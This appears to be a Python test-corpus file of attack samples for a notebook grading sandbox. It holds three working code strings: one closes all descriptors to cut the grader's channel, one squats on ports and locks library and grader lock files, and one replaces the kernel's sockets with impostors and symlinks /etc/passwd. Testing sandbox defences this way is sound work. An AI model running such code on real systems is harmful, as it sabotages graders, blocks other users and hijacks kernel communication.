"""Locks, ports, names and channels that others need."""

from tests.attacks.corpus import variant

closed_channels = variant(
    "Close every descriptor in the middle of a call, the judge's channel with them.",
    small_graph="""
import os
def small_graph(x, y, z):
    os.closerange(3, 4096)
    return 0.0, x, y, z""",
    expected="crash small_graph",
)

squatting = variant(
    "Take locks, ports and names that the next student or the grader would want.",
    with_wrong="""
import contextlib, fcntl, os, socket, sys
held = []
for port in (8888, 8080, *range(49152, 49400)):
    with contextlib.suppress(OSError):
        taken = socket.socket()
        taken.bind(("0.0.0.0", port))
        taken.listen()
        held.append(taken)
for path in (sys.modules["course_lib"].__file__, sys.modules["numpy"].__file__, os.__file__):
    try:
        file = open(path)
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.lockf(open(path, "r+"), fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError as error:
        print(type(error).__name__)
    held.append(file)
for name in (".lock", "gradebook.db", "nbgrader.lock"):
    fcntl.flock(open(f"/tmp/{name}", "w"), fcntl.LOCK_EX)""",
    tier="full",
)

stolen_sockets = variant(
    "Remove the kernel's sockets from the private folder and put others in their place.",
    with_wrong="""
import glob, os, socket
held = []
folder = os.path.dirname(os.environ["HOME"])
for path in glob.glob(folder + "/k-*") + [folder + "/kernel.json"]:
    try:
        os.unlink(path)
        taken = socket.socket(socket.AF_UNIX)
        taken.bind(path)
        taken.listen()
        held.append(taken)
    except OSError as error:
        print(type(error).__name__)
for name in ("k-9", "link"):
    try:
        os.symlink("/etc/passwd", f"{folder}/{name}")
    except OSError as error:
        print(type(error).__name__)""",
)
